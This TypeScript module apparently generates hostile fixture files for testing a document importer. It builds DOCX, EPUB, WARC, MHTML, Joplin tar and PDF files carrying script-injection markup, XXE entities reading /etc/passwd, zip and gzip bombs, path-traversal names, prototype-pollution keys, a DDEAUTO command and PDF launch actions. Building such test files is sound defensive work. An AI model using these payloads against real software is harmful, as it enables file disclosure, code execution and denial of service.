import { gzipSync, strToU8, zipSync } from 'fflate';
import { hostilePage } from './html.ts';
import { LEAK, PROSE, RUN } from './payloads.ts';

const BAD_MARKUP = `<script>${RUN}</script><img src=x onerror="alert(1)"><a href="javascript:alert(1)">click</a>`;

function zip(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const parts = Object.entries(files).map(([name, content]) => [
    name,
    typeof content === 'string' ? strToU8(content) : content,
  ]);
  return zipSync(Object.fromEntries(parts) as Record<string, Uint8Array>, { level: 6 });
}

const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A Word document of these paragraphs, with whatever else stands in the archive. */
export function docx(
  body: string,
  more: Readonly<Record<string, string | Uint8Array>> = {},
): Uint8Array {
  return zip({
    '[Content_Types].xml':
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="${RELS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="${RELS}"><Relationship Id="l1" Type="${OFFICE}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/><Relationship Id="l2" Type="${OFFICE}/image" Target="${LEAK}/i.png" TargetMode="External"/><Relationship Id="l3" Type="${OFFICE}/attachedTemplate" Target="${LEAK}/t.dotm" TargetMode="External"/></Relationships>`,
    ...more,
  });
}

const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

const OPF = (metadata: string, item = 'a.xhtml'): string =>
  `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">${metadata}</metadata><manifest><item id="a" href="${item}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>`;

/** A book of one chapter. */
export function epub(
  chapter: string,
  metadata = '<dc:title>Book</dc:title>',
  more: Readonly<Record<string, string>> = {},
): Uint8Array {
  return zip({
    mimetype: 'application/epub+zip',
    'META-INF/container.xml':
      '<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    'book.opf': OPF(metadata),
    'a.xhtml': `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd">]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${chapter}</body></html>`,
    ...more,
  });
}

/** A web archive of one page. */
export function warc(url: string, html: string, type = 'text/html'): Uint8Array {
  const content = Buffer.from(
    `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nSet-Cookie: a=b\r\n\r\n${html}`,
  );
  const head = `WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: ${url}\r\nWARC-Date: 2024-05-03T10:00:00Z\r\nContent-Length: ${content.length}\r\n\r\n`;
  return new Uint8Array(Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n\r\n')]));
}

/** A page saved as mail, with a part that its address names. */
export function mhtml(html: string, location: string, subject = 'x'): string {
  return [
    'From: <Saved>',
    `Snapshot-Content-Location: ${location}`,
    `Subject: ${subject}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; type="text/html"; boundary="=_x"',
    '',
    '--=_x',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: binary',
    `Content-Location: ${location}`,
    '',
    html,
    '--=_x',
    'Content-Type: image/svg+xml',
    'Content-Transfer-Encoding: binary',
    `Content-Location: ${LEAK}/i.svg`,
    '',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
    '--=_x--',
    '',
  ].join('\r\n');
}

/** A tar of these files, as Joplin packs its notes. */
function tar(files: Readonly<Record<string, string>>): Uint8Array {
  const blocks = Object.entries(files).flatMap(([name, text]) => {
    const content = Buffer.from(text);
    const head = Buffer.alloc(512);
    head.write(name, 0, 100);
    head.write('0000644\0', 100);
    head.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124);
    head.write('00000000000\0', 136);
    head.write('        ', 148);
    head.write('0', 156);
    head.write('ustar\x0000', 257);
    const sum = head.reduce((total, byte) => total + byte, 0);
    head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    return [head, content, Buffer.alloc((512 - (content.length % 512)) % 512)];
  });
  return new Uint8Array(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}

const PDF = (text: string, info: string, catalog: string): string => {
  const content = `BT /F0 10 Tf 72 700 Td (${text}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Resources << /Font << /F0 3 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>] >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< ${info} >>`,
  ];
  let out = '%PDF-1.4\n';
  const places = objects.map((body, index) => {
    const place = out.length;
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const start = out.length;
  return `${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${start}\n%%EOF\n`;
};

export function* packedFiles(): Generator<[path: string, content: string | Uint8Array]> {
  const words = paragraph(PROSE);
  yield ['packed/markup.docx', docx(words + paragraph(escaped(BAD_MARKUP)) + words)];
  yield [
    'packed/links.docx',
    docx(
      `${words}<w:p><w:hyperlink r:id="l1"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "javascript:alert(1)"</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>field</w:t><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r></w:p>`,
    ),
  ];
  yield [
    'packed/entities.docx',
    zip({
      ...Object.fromEntries([]),
      '[Content_Types].xml':
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      '_rels/.rels': `<Relationships xmlns="${RELS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><w:document ${W}><w:body>${paragraph(`&e;&c; ${PROSE}`)}</w:body></w:document>`,
    }),
  ];
  yield ['packed/bomb.docx', docx(words, { 'word/media/x.bin': new Uint8Array(40 * 1024 * 1024) })];
  yield [
    'packed/names.docx',
    docx(words, {
      '../../../tmp/ran.txt': 'x',
      '/etc/ran': 'x',
      'word/__proto__': 'x',
      'C:\\ran.txt': 'x',
    }),
  ];
  yield [
    'packed/markup.epub',
    epub(
      `<h1>Book</h1><p>${PROSE}</p>${BAD_MARKUP}<p>${PROSE}</p>`,
      `<dc:title>${escaped(BAD_MARKUP)}</dc:title><dc:creator>${escaped(BAD_MARKUP)}</dc:creator><dc:description>${escaped(BAD_MARKUP)}</dc:description><dc:identifier>${escaped('"><script>alert(1)</script>')}</dc:identifier>`,
    ),
  ];
  yield ['packed/entities.epub', epub(`<p>&e; ${PROSE}</p>`)];
  yield [
    'packed/path.epub',
    epub(`<p>${PROSE}</p>`, '<dc:title>Path</dc:title>', {
      'book.opf': OPF('<dc:title>Path</dc:title>', '../../../../etc/passwd'),
    }),
  ];
  yield [
    'packed/page.warc',
    warc(`${LEAK}/</script><script>alert(1)</script>`, hostilePage(BAD_MARKUP)),
  ];
  yield ['packed/address.warc', warc('javascript:alert(1)', hostilePage(BAD_MARKUP))];
  yield [
    'packed/page.warc.gz',
    gzipSync(warc('https://leak.example/\u202Ex', hostilePage(BAD_MARKUP))),
  ];
  yield [
    'packed/page.wacz',
    zip({
      'datapackage.json': '{"profile":"data-package","resources":[],"__proto__":{"ran":1}}',
      'pages/pages.jsonl': `{"format":"json-pages-1.0"}\n{"url":"https://leak.example/w","title":"</title><script>alert(1)</script>","__proto__":{"ran":1}}\n`,
      'archive/data.warc': warc('https://leak.example/w', hostilePage(BAD_MARKUP)),
    }),
  ];
  yield [
    'packed/page.mhtml',
    mhtml(
      hostilePage(`${BAD_MARKUP}<img src="${LEAK}/i.svg" alt="drawn">`),
      `${LEAK}/m.html`,
      '=?utf-8?Q?=3C/title=3E=3Cscript=3Ealert(1)=3C/script=3E?=',
    ),
  ];
  yield ['packed/address.mhtml', mhtml(hostilePage(BAD_MARKUP), 'javascript:alert(1)')];
  yield [
    'packed/notes.jex',
    tar({
      '0123456789abcdef0123456789abcdef.md': `</title><script>alert(1)</script>\n\n${PROSE} ${BAD_MARKUP}\n\nid: 0123456789abcdef0123456789abcdef\nsource_url: javascript:alert(1)\nauthor: <b>\ntype_: 1`,
      '../../ran.md': 'x\n\nid: 1\ntype_: 1',
    }),
  ];
  yield [
    'packed/info.pdf',
    new Uint8Array(
      Buffer.from(
        PDF(
          PROSE.replace(/[()]/g, ''),
          '/Title (</title><script>alert\\(1\\)</script>) /Author (\\033]0;ran\\007 "><img src=x onerror=alert\\(1\\)>) /Subject (javascript:alert\\(1\\))',
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >>',
        ),
        'latin1',
      ),
    ),
  ];
  yield [
    'packed/text.pdf',
    new Uint8Array(
      Buffer.from(
        PDF('<script>alert\\(1\\)</script> {alert\\(1\\)} import x from "y"', '/Title (Text)', ''),
        'latin1',
      ),
    ),
  ];
  yield ['packed/bomb.html.gz', gzipSync(new Uint8Array(80 * 1024 * 1024))];
  yield ['packed/page.html.gz', gzipSync(strToU8(hostilePage(BAD_MARKUP)))];
  yield ['packed/cut.html.gz', gzipSync(strToU8(hostilePage(BAD_MARKUP))).subarray(0, 300)];
  yield ['packed/no-zip.epub', 'PK\u0003\u0004 this is no archive'];
  yield ['packed/zip-in-zip.docx', zip({ 'inner.docx': zip({ 'inner.docx': docx(words) }) })];
}
